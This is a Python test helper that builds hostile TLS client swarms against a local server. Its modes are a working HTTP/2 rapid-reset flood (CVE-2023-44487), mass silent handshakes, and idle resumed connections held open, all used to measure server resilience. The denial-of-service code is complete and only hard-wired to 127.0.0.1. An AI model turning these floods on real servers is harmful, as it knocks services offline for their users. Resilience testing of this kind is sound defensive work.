"""Crowds of TLS clients that mean no good, made with OpenSSL: for siege.sh.

  reset PORT CONNECTIONS   HTTP/2 rapid reset (CVE-2023-44487) over and over, without certificate,
                           until standard input ends; then prints "resets N connections N"
  silent PORT COUNT        handshakes without certificate, then silence, from many addresses; prints
                           "standing", then "closed N within S" when the server has had enough
  idle PORT CERTS COUNT    connections of a worker that only exist, resumed to be quick; prints
                           "standing", and holds them until standard input ends
"""
import os
import select
import socket
import ssl
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
HEADERS = (b"\x83\x87\x04\x13/skep.test.Echo/Echo\x01\x0dswarm-manager"
           b"\x0f\x10\x10application/grpc\x00\x02te\x08trailers")


def context(certs=None):
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    made.maximum_version = ssl.TLSVersion.TLSv1_2
    made.set_alpn_protocols(["h2"])
    if certs:
        made.load_cert_chain(f"{certs}/client.pem", f"{certs}/client.key")
    return made


def connect(made, port, source, session=None):
    plain = socket.create_connection(("127.0.0.1", int(port)), 20, (source, 0))
    return made.wrap_socket(plain, session=session)


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def reset(port, connections):
    os.nice(19)  # what is measured is the server's work, not the attackers' own
    ended, sums, lock = threading.Event(), [0, 0], threading.Lock()

    def attack(source):
        made = context()
        while not ended.is_set():
            stream = 1
            try:
                with connect(made, port, source) as tls:
                    tls.sendall(PREFACE)
                    while not ended.is_set():
                        batch = b""
                        for _ in range(50):
                            batch += frame(1, 5, stream, HEADERS) + frame(3, 0, stream, b"\0\0\0\x08")
                            stream += 2
                        tls.sendall(batch)
            except OSError:
                pass
            with lock:
                sums[0] += stream // 2
                sums[1] += 1
            time.sleep(0.01)

    threads = [threading.Thread(target=attack, args=(f"127.0.0.{2 + i}",), daemon=True)
               for i in range(int(connections))]
    for thread in threads:
        thread.start()
    print("standing", flush=True)
    sys.stdin.read()
    ended.set()
    for thread in threads:
        thread.join(5)
    print(f"resets {sums[0]} connections {sums[1]}")


def silent(port, count):
    made, held = context(), []
    poll = select.poll()
    for i in range(int(count)):
        tls = connect(made, port, f"127.0.2.{1 + i % 20}")
        tls.setblocking(False)
        held.append(tls)
        poll.register(tls, select.POLLIN)
    print("standing", flush=True)
    start, open_ones = time.monotonic(), {tls.fileno(): tls for tls in held}
    while open_ones and time.monotonic() - start < 30:
        for number, _ in poll.poll(1000):
            try:
                gone = not open_ones[number].recv(4096)
            except ssl.SSLWantReadError:
                gone = False
            except OSError:
                gone = True
            if gone:
                poll.unregister(number)
                open_ones.pop(number).close()
    print(f"closed {len(held) - len(open_ones)} within {time.monotonic() - start:.1f}")


def idle(port, certs, count):
    made = context(certs)
    first = connect(made, port, "127.0.0.1")
    held = [first]
    resumed = 0
    for i in range(int(count) - 1):
        tls = connect(made, port, f"127.0.3.{1 + i % 100}", first.session)
        resumed += tls.session_reused
        held.append(tls)
    print(f"standing resumed {resumed}", flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    {"reset": reset, "silent": silent, "idle": idle}[sys.argv[1]](*sys.argv[2:])
